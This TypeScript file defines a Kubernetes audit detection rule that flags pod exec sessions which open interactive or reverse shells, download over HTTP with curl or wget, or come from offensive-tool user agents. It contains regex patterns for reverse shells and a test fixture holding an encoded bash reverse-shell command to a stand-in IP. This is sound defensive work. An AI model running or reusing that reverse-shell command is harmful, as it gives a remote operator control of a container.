import { literal } from '../../model/sentence.ts';
import { type AuditEvent, asString } from '../audit-event.ts';
import type { AuditRule } from '../rule.ts';
import { exampleStream } from './shared-workload-examples.ts';
import {
  commandLine,
  execCommand,
  isSuccessfulExecOrAttach,
  programName,
  queryFlag,
  streamMatch,
} from './shared-workload-exec.ts';

const OFFENSIVE_USER_AGENTS = ['access_matrix', 'trufflehog', 'azurehound', 'micro-scanner'];
const SHELLS = ['sh', 'bash'];

/** Reverse-shell patterns; program names must start a word (`rsync -e` is not `nc -e`). */
const REVERSE_SHELL_PATTERNS: readonly { reason: string; pattern: RegExp }[] = [
  { reason: 'reverse shell (/dev/tcp/)', pattern: /\/dev\/tcp\// },
  { reason: 'reverse shell (nc -e)', pattern: /(?:^|[\s;|&/'"(])nc\s+-e\b/ },
  { reason: 'reverse shell (mkfifo)', pattern: /(?:^|[\s;|&/'"(])mkfifo\b/ },
];

const DOWNLOADER = /(?:^|[\s;|&/'"(])(?:curl|wget)\b/;
const HTTP_URL = /https?:\/\//i;

/** `curl`/`wget` followed somewhere by an http(s) URL; two linear scans, no backtracking on long commands. */
function downloadsOverHttp(command: string): boolean {
  const tool = DOWNLOADER.exec(command);
  return tool !== null && HTTP_URL.test(command.slice(tool.index));
}

/**
 * An interactive shell: the program is `sh` or `bash` and the session attaches a terminal or stdin
 * (`kubectl exec -it … -- bash`) or asks for interactive mode (`-i`).
 */
function isInteractiveShell(event: AuditEvent): boolean {
  const [program, ...args] = execCommand(event);
  if (!SHELLS.includes(programName(program))) return false;
  return queryFlag(event, 'tty') || queryFlag(event, 'stdin') || args.includes('-i');
}

function reasons(event: AuditEvent): string[] {
  const command = commandLine(event);
  const found = REVERSE_SHELL_PATTERNS.filter((p) => p.pattern.test(command)).map((p) => p.reason);
  if (downloadsOverHttp(command)) found.push('download (curl/wget to http(s))');
  if (isInteractiveShell(event)) found.push('interactive shell');
  const agent = (asString(event.userAgent) ?? '').toLowerCase();
  const tool = OFFENSIVE_USER_AGENTS.find((name) => agent.includes(name));
  if (tool !== undefined) found.push(`offensive tool user agent (${tool})`);
  return found;
}

export const kd023ExecShellOrDownloader: AuditRule = {
  id: 'KD-023',
  title: 'Exec command is a shell / downloader / reverse shell',
  severity: 'medium',
  mitre: ['T1059', 'T1105'],
  core: false,
  resources: ['pods'],
  evaluatesResponseStarted: true,
  trigger:
    'KD-020 and the command contains `/dev/tcp/`, `nc -e`, `mkfifo`, `curl`/`wget` to http(s), or is an ' +
    'interactive shell `sh`/`bash` (stdin/tty attached or `-i`); or the user agent is an offensive tool ' +
    '(`access_matrix`, `trufflehog`, `azurehound`, `micro-scanner`)',
  whatHappened:
    'An exec session started a shell, downloaded something over HTTP(S), opened a reverse shell, or came ' +
    'from a known offensive tool.',
  whyItMatters:
    'Interactive shells and downloads are how tooling gets into a container; a reverse shell hands the ' +
    'container to a remote operator.',
  firstResponse:
    'Read the command (evidence). A reverse shell or a download from an unknown host: isolate the pod and ' +
    'revoke the caller’s credentials. A shell: confirm the session with the person.',
  falsePositives: 'Interactive debugging (`kubectl exec -it … -- sh`) by operators.',
  // Elastic "Pod Exec Potential Reverse Shell": the exec fixture's shape with a /dev/tcp command.
  example: exampleStream({
    auditID: 'c0d1e2f3-0023-4a4b-9c5d-6e7f8a9b0c1d',
    namespace: 'default',
    pod: 'nginx-deployment-7998647bdf-phvq7',
    subresource: 'exec',
    query:
      'command=sh&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F198.51.100.7%2F4444+0%3E%261&container=nginx1&stdout=true',
  }),
  match(event) {
    if (!isSuccessfulExecOrAttach(event)) return null;
    const found = reasons(event);
    if (found.length === 0) return null;
    // The reasons are kubeguard's words (the tool names come from its own list).
    return streamMatch(event, literal(` (${found.join(', ')})`), { reason: found.join(', ') });
  },
};
